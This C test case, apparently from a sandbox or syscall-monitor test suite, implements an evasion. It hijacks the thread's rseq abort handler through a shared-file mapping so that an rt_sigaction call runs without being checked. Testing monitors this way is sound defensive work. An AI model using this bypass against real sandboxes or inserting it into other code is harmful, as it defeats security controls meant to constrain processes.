/* Evasion: the word by which the first thread says that it is in a restartable sequence (rseq(2)) lies in a file that a process outside
 * has, too. It writes there all the time that the thread is in one where an engine may put code of its own into the process. There the
 * kernel sends the thread to code of the request, which makes a call that nobody judges, and goes on where it was. */
#include "case.h"
#include <sys/mman.h>
#include "mappings.h"
#include <sys/rseq.h>

enum { SCRATCH = 16 * PAGE, HAS_RESTORER = 0x04000000 };
static uintptr_t hole;
static struct {
    _Alignas(32) uint32_t version;
    uint32_t flags;
    uint64_t start, length, aborted;
} sequence;
static struct action {
    unsigned long handler, flags, restorer, mask;
} unjudged_action;
__attribute__((used)) static struct action *unjudged = &unjudged_action;
__attribute__((used)) static uintptr_t goes_on;

/* Calls `rt_sigaction` of SIGUSR2 (12). Behind what the C library has told the kernel to look for (RSEQ_SIG). */
__asm__(".text\n"
        ".byte 0x0f, 0xb9, 0x3d\n"
        ".long 0x53053053\n"
        "aborted:\n"
        "mov $13, %eax\n"
        "mov $12, %edi\n"
        "mov unjudged(%rip), %rsi\n"
        "xor %edx, %edx\n"
        "mov $8, %r10d\n"
        "syscall\n"
        "jmp *goes_on(%rip)\n");
extern char aborted[];

static void prepare(void)
{
    hole = find_hole();
    goes_on = hole + SCRATCH - PAGE;
}

/* To the other process: in the second page of the file, where it is to write what. */
static void handle(const char *secret)
{
    struct action now = {0};
    check(syscall(SYS_rt_sigaction, SIGUSR2, NULL, &now, sizeof now.mask) == 0, "rt_sigaction");
    unjudged_action = (struct action){PAGE + strtoul(strpbrk(secret, "0123456789"), NULL, 10), HAS_RESTORER, PAGE, 0};
    sequence.start = hole;
    sequence.length = SCRATCH;
    sequence.aborted = (uint64_t)aborted;
    char *place = (char *)__builtin_thread_pointer() + __rseq_offset;
    char *page = (char *)((uintptr_t)place & ~(uintptr_t)(PAGE - 1));
    int file = open(arguments[1], O_RDWR | O_CLOEXEC);
    check(file >= 0 && pwrite(file, page, PAGE, 0) == PAGE, arguments[1]);
    check(mmap(page, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, file, 0) != MAP_FAILED, "mmap");
    uint64_t words[] = {(uint64_t)(place - page) + offsetof(struct rseq, rseq_cs), (uintptr_t)&sequence};
    check(pwrite(file, words, sizeof words, PAGE) == sizeof words && close(file) == 0, "pwrite");
    check(prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0) == 0, "a setting that is asked for among others");
    answer("{\"handler\":%lu}", now.handler);
}
